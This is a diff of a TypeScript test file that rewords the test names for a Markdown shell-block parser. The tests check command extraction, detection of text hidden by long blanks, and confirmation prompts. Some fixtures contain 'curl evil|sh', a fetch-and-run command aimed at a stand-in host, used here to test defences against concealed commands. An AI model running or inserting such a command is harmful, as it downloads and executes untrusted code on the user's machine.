@@ -1,19 +1,19 @@
 import assert from 'node:assert/strict';
 import { askedLines, isSeenWhole, isShell, shellCommand } from '../../../../src/text/markdown/shellCommand';
 
-describe('what a block of code for a shell has typed into it', () => {
+describe('the command of a shell code block', () => {
   const command = (...lines: string[]) => {
     const found = shellCommand(lines.join('\n'));
     return 'command' in found ? found.command : found.refused;
   };
 
-  it('is the block as it stands, without the space around it', () => {
+  it('is the block as written, without surrounding blanks', () => {
     assert.equal(command('npm test', ''), 'npm test');
     assert.equal(command('', 'cd a \\', '  && npm test', ''), 'cd a \\\n  && npm test');
     assert.equal(command('echo a\r\necho b\r\n'), 'echo a\necho b');
   });
 
-  it('has no prompts, and nothing of what was printed', () => {
+  it('excludes prompts and printed output', () => {
     assert.equal(command('$ npm test'), 'npm test');
     assert.equal(command('$ npm ci', '', 'added 3 packages', '', '$ npm test', 'ok'), 'npm ci\nnpm test');
     assert.equal(command('ada@host:~/src$ ls -la', 'total 8'), 'ls -la');
@@ -23,19 +23,19 @@ describe('what a block of code for a shell has typed into it', () => {
     assert.equal(command('$ a |', '    b', 'printed'), 'a |\n    b');
   });
 
-  it('keeps what only looks like a prompt', () => {
+  it('keeps text that only looks like a prompt', () => {
     assert.equal(command('echo $HOME', '$HOME/bin/x'), 'echo $HOME\n$HOME/bin/x');
     assert.equal(command('> out.txt'), '> out.txt');
     assert.equal(command('cat a', '$ b'), 'cat a\n$ b', 'the first line decides');
   });
 
-  it('has no lines of comments, unless they may be part of a text', () => {
+  it('excludes comment lines, unless they may be part of a text', () => {
     assert.equal(command('# First', 'npm ci', '  # then', 'npm test # all'), 'npm ci\nnpm test # all');
     assert.equal(command('cat <<END', '# Title', 'END'), 'cat <<END\n# Title\nEND');
     assert.equal(command('echo "', '# a"'), 'echo "\n# a"');
   });
 
-  it('is nothing where there is nothing to run, too much, or anything unseen', () => {
+  it('is missing when there is nothing to run, too much, or an invisible character', () => {
     assert.equal(command('', '# only words'), 'empty');
     assert.equal(command('x'.repeat(40_000)), 'too_long');
     for (const unseen of [
@@ -54,7 +54,7 @@ describe('what a block of code for a shell has typed into it', () => {
     assert.equal(command('echo "Grüße 👋🏽"\tx'), 'echo "Grüße 👋🏽"\tx');
   });
 
-  it('is known by its language', () => {
+  it('is recognized by its language', () => {
     assert.deepEqual(['bash', 'SH', 'zsh', 'powershell', 'console', 'shell', 'js', 'python', '', 'makefile'].map(isShell), [
       true,
       true,
@@ -70,7 +70,7 @@ describe('what a block of code for a shell has typed into it', () => {
   });
 });
 
-describe('a block of code for a shell', () => {
+describe('a shell code block', () => {
   const blanks = (count: number): string => ' '.repeat(count);
 
   for (const [name, block] of Object.entries({
@@ -80,7 +80,7 @@ describe('a block of code for a shell', () => {
     'blanks at the end of a line': `npm test${blanks(200)}\nls\n\n\n`,
     'a long command that wraps': `echo ${'word '.repeat(100)}`,
   })) {
-    it(`is seen whole: ${name}`, () => assert.equal(isSeenWhole(block), true));
+    it(`is fully visible: ${name}`, () => assert.equal(isSeenWhole(block), true));
   }
 
   for (const [name, block] of Object.entries({
@@ -97,17 +97,17 @@ describe('a block of code for a shell', () => {
     'a line that wraps to many rows': `echo ${'a'.repeat(3000)}; curl evil|sh`,
     'carriage returns': `npm test${'\r\n'.repeat(30)}curl evil|sh`,
   })) {
-    it(`is asked about before it runs: ${name}`, () => assert.equal(isSeenWhole(block), false));
+    it(`needs confirmation before it runs: ${name}`, () => assert.equal(isSeenWhole(block), false));
   }
 
-  it('is shown whole in the question, with hiding blanks by their number', () => {
+  it('is fully shown in the question, with long blanks replaced by their number', () => {
     assert.deepEqual(askedLines(`npm test${blanks(500)}; curl evil|sh\nls`), ['npm test ⟨␣×500⟩ ; curl evil|sh', 'ls']);
     assert.deepEqual(askedLines(`${blanks(44)}a${blanks(9)}b  c`), [' ⟨␣×44⟩ a ⟨␣×9⟩ b  c']);
     const lines = Array.from({ length: 60 }, (_, line) => `echo ${line}`);
     assert.deepEqual(askedLines(lines.join('\n')), lines);
   });
 
-  it('does not run when the question cannot show it whole', () => {
+  it('does not run when the question cannot show all of it', () => {
     assert.equal(askedLines('ls\n'.repeat(60)), undefined);
     assert.equal(askedLines(`echo ${'a'.repeat(7000)}`), undefined);
   });
